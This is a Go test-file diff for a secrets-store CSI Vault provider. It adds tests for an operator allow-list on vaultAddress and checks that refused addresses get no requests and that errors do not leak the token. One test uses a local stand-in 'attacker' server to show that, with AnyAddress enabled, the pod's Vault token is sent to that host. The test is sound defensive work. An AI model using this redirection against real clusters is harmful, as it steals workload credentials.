@@ -5,11 +5,15 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"errors"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"google.golang.org/grpc/codes"
 	clocktesting "k8s.io/utils/clock/testing"
 
 	"github.com/sscsi/secrets-store/providers/plugin"
@@ -421,5 +425,75 @@ func TestKVWithExpirationKeyIsNotKeptPerPod(t *testing.T) {
 	e.vault.putKV1("x", map[string]any{"v": "two", "expiration": time.Now().Add(24 * time.Hour).Unix()})
 	if got := e.mount(request("ns", "p", "app", attrs))["v"]; got != "two" {
 		t.Errorf("got %q after an update, want two", got)
+	}
+}
+
+// TestVaultAddressAllowList: a SecretProviderClass whose vaultAddress
+// names a Vault the operator did not allow is refused InvalidArgument,
+// naming the field, before anything is sent there; with AnyAddress
+// (vault-csi-provider's behaviour) that host receives the pod's token.
+func TestVaultAddressAllowList(t *testing.T) {
+	var mu sync.Mutex
+	var got []string
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, r.URL.Path+" "+string(body))
+		mu.Unlock()
+		http.Error(w, "no", http.StatusForbidden)
+	}))
+	t.Cleanup(attacker.Close)
+	e := newEnv(t, vault.BackendConfig{})
+	e.vault.role("app", "ns", "app", "secret/")
+	e.vault.putKV2("x", map[string]any{"v": "x"})
+	attrs := spc("app", "- {objectName: v, secretPath: secret/data/x, secretKey: v}")
+	req := func(addr string) *plugin.Request {
+		r := request("ns", "p", "app", attrs)
+		r.Attributes[params.ParamVaultAddress] = addr
+		return r
+	}
+	// The provider's own address, spelled differently, is allowed.
+	if f := e.mount(req(strings.ToUpper(e.vault.srv.URL[:4]) + e.vault.srv.URL[4:] + "/")); f["v"] != "x" {
+		t.Errorf("own address: %v", f)
+	}
+	r := req(attacker.URL)
+	tok := r.Tokens["vault"].Token
+	_, err := e.b.Mount(t.Context(), r)
+	if code, _ := plugin.Classify(err); code != codes.InvalidArgument || !strings.Contains(err.Error(), params.ParamVaultAddress) {
+		t.Fatalf("err = %v (%v), want InvalidArgument naming %s", err, code, params.ParamVaultAddress)
+	}
+	if strings.Contains(err.Error(), tok) || strings.Contains(err.Error(), attacker.URL) {
+		t.Errorf("error quotes the token or the address: %v", err)
+	}
+	mu.Lock()
+	if len(got) != 0 {
+		t.Errorf("the refused address received %d requests", len(got))
+	}
+	mu.Unlock()
+
+	// Allowed by the operator: the mount goes there.
+	allow := newEnv(t, vault.BackendConfig{Defaults: params.Defaults{AllowedAddresses: []string{attacker.URL}}})
+	if _, err := allow.b.Mount(t.Context(), req(attacker.URL)); err == nil {
+		t.Fatal("the attacker's 403 did not fail the mount")
+	}
+	// AnyAddress: the hole this control closes (the token reaches the host).
+	anyAddr := newEnv(t, vault.BackendConfig{Defaults: params.Defaults{AnyAddress: true}})
+	r = req(attacker.URL)
+	_, _ = anyAddr.b.Mount(t.Context(), r)
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) == 0 || !strings.Contains(strings.Join(got, "\n"), r.Tokens["vault"].Token) {
+		t.Errorf("with AnyAddress the other host did not receive the login: %q", got)
+	}
+}
+
+func TestConfigAllowedAddresses(t *testing.T) {
+	cfg := vault.Config{Socket: "/x.sock", Defaults: params.Defaults{AllowedAddresses: []string{"https://vault-dr:8200"}}}
+	if err := cfg.Validate(); err != nil {
+		t.Errorf("valid: %v", err)
+	}
+	cfg.Defaults.AllowedAddresses = append(cfg.Defaults.AllowedAddresses, "https://vault/path")
+	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), params.AllowedAddressesFlag) {
+		t.Errorf("an address with a path: err = %v", err)
 	}
 }
